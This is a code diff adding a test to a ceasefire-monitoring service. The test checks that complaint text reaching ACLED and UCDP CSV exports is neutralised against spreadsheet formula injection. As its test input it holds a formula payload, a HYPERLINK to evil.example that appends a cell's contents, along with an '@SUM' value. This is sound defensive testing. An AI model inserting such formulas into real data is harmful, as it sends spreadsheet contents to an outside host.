@@ -20,6 +20,7 @@ from ceasefire.publish.model import Edition, OutputFormat, last_cutoff_day
 from ceasefire.timeutil import utcnow
 from tests.factories.members import Cast
 from tests.factories.publish import make_day
+from tests.factories.reports import COMPLAINT, shelling_body
 
 
 def test_exports_and_publications_over_http(
@@ -95,3 +96,30 @@ def test_the_server_publishes_at_the_cut_off(
     assert sorted(p.kind for p in published) == sorted(expected)
     assert {p.period for p in published if p.kind == "daily"} == {f"daily:{day.isoformat()}"}
     assert all(p.generated_at is not None for p in published)
+
+
+def test_a_liaisons_text_reaches_a_csv_export_as_text_not_a_formula(
+    client: TestClient, cast: Cast
+) -> None:
+    """As Armenia's liaison: the narrative and place of its complaint reach the monitors'
+    ACLED and UCDP exports (``notes``, ``location``, ``where_coordinates``), which analysts
+    open in a spreadsheet. Text starting ``=``, ``+``, ``-`` or ``@`` would run there as a
+    formula (a ``HYPERLINK`` or ``WEBSERVICE`` sending other cells out): it is written with a
+    leading apostrophe, as text."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"details")'
+    complaint = {
+        **shelling_body(**COMPLAINT, concerns=["ARM"], alleged_perpetrator="AZE"),
+        "narrative": formula,
+        "event_position": {"place_name": "@SUM(1+1)", "precision": 2, "lat": 39.99, "lon": 46.93},
+    }
+    filed = client.post("/api/v1/reports", json=complaint, headers=cast.bearer("arm"))
+    assert filed.status_code == 201, filed.text
+    for fmt, columns in (("acled", ("notes", "location")), ("ucdp", ("where_coordinates",))):
+        exported = client.get(
+            "/api/v1/exports/reports", params={"format": fmt}, headers=cast.bearer("tur")
+        )
+        assert exported.status_code == 200, exported.text
+        (row,) = list(csv.DictReader(io.StringIO(exported.text)))
+        cells = [row[c] for c in columns]
+        assert all(cell[:1] == "'" for cell in cells), cells
+        assert {cell[1:] for cell in cells} <= {formula, "@SUM(1+1)"}
